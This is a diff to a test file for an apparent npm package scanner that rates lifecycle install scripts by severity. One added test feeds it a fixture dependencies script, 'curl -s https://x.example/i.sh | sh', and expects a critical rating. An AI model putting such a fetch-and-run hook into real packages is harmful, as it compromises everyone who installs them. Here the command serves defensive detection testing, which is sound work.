@@ -133,13 +133,23 @@ describe('install scripts', () => {
     ]);
   });
 
-  it('reports every lifecycle npm runs, and a bundled package\'s prepare only as info', () => {
-    const scripts = { preinstall: 'a', install: 'b', postinstall: 'c', preprepare: 'd', prepare: 'e', postprepare: 'f', prepublish: 'g', test: 'h' };
+  it('reports every lifecycle npm runs, and a bundled package\'s prepare, dependencies and pack scripts only as info', () => {
+    const scripts = {
+      preinstall: 'a', install: 'b', postinstall: 'c', preprepare: 'd', prepare: 'e', postprepare: 'f', prepublish: 'g',
+      predependencies: 'i', dependencies: 'j', postdependencies: 'k', prepack: 'l', postpack: 'm', test: 'h', prepublishOnly: 'n', pretest: 'o',
+    };
     const text = JSON.stringify({ scripts });
-    expect(installScriptReports(text).map((report) => report.data.script)).toEqual(['preinstall', 'install', 'postinstall', 'preprepare', 'prepare', 'postprepare', 'prepublish']);
+    expect(installScriptReports(text).map((report) => `${report.data.script} ${report.kind.severity}`)).toEqual([
+      'preinstall high', 'install high', 'postinstall high', 'preprepare high', 'prepare high', 'postprepare high', 'prepublish high',
+      'predependencies high', 'dependencies high', 'postdependencies high', 'prepack high', 'postpack high',
+    ]);
     expect(installScriptReports(text, { bundled: true }).map((report) => `${report.data.script} ${report.kind.severity}`)).toEqual([
       'preinstall high', 'install high', 'postinstall high', 'preprepare info', 'prepare info', 'postprepare info', 'prepublish info',
+      'predependencies info', 'dependencies info', 'postdependencies info', 'prepack info', 'postpack info',
     ]);
+    // npm 8+ runs `dependencies` after every change to node_modules: a script it runs with node is an entry point like the others.
+    expect(Object.fromEntries(scriptEntries(JSON.stringify({ scripts: { dependencies: 'node setup.js' } })))).toEqual({ dependencies: { files: ['setup.js'], code: [] } });
+    expect(installScriptReports(JSON.stringify({ scripts: { dependencies: 'curl -s https://x.example/i.sh | sh' } }))[0].kind.severity).toBe('critical');
   });
 
   it('finds the files and the inline code a script hands to node, through npm run', () => {
